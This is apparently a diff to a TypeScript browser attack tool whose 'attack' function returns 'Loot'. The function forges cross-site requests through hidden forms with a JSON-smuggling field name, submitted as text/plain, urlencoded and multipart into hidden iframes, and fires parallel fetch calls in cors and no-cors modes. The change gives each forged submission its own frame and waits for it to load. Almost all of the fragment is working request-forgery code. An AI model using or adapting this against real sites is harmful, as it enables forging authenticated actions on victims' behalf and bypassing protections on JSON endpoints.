@@ -15,18 +15,25 @@ export interface Loot {
  */
 export async function attack(calls: readonly Forged[]): Promise<Loot> {
   const read: string[] = []
-  const sink = document.createElement('iframe')
-  sink.name = 'sink'
-  document.body.append(sink)
-  const forge = ({ method, url }: Forged, enctype: string): void => {
+  let frames = 0
+  // Each in a frame of its own: in one, the next would take the place of what is still on its way.
+  const forge = async ({ method, url }: Forged, enctype: string): Promise<void> => {
+    const target = `frame-${frames++}`
+    const frame = Object.assign(document.createElement('iframe'), { name: target })
     const form = document.createElement('form')
-    Object.assign(form, { method: method === 'GET' ? 'get' : 'post', action: url, enctype, target: 'sink' })
+    Object.assign(form, { method: method === 'GET' ? 'get' : 'post', action: url, enctype, target })
     const field = document.createElement('input')
     Object.assign(field, { type: 'hidden', name: '{"username":"x","a":"', value: '"}' })
     form.append(field)
-    document.body.append(form)
+    document.body.append(form, frame)
+    const answered = new Promise(resolve => {
+      frame.addEventListener('load', resolve, { once: true })
+      setTimeout(resolve, 2_000) // some answers are nothing to show
+    })
     form.submit()
+    await answered
     form.remove()
+    frame.remove()
   }
   const ask = async ({ method, url }: Forged, init: RequestInit): Promise<void> => {
     try {
@@ -47,9 +54,10 @@ export async function attack(calls: readonly Forged[]): Promise<Loot> {
   }
   for (const call of calls) {
     const body = call.method === 'GET' ? {} : { body: '{}' }
-    for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data'])
-      forge(call, enctype)
     await Promise.all([
+      forge(call, 'text/plain'),
+      forge(call, 'application/x-www-form-urlencoded'),
+      forge(call, 'multipart/form-data'),
       ask(call, { ...body, mode: 'cors' }),
       ask(call, { ...body, mode: 'cors', headers: { 'content-type': 'application/json' } }),
       ask({ ...call, method: call.method === 'GET' ? 'GET' : 'POST' }, { ...body, mode: 'no-cors' }),
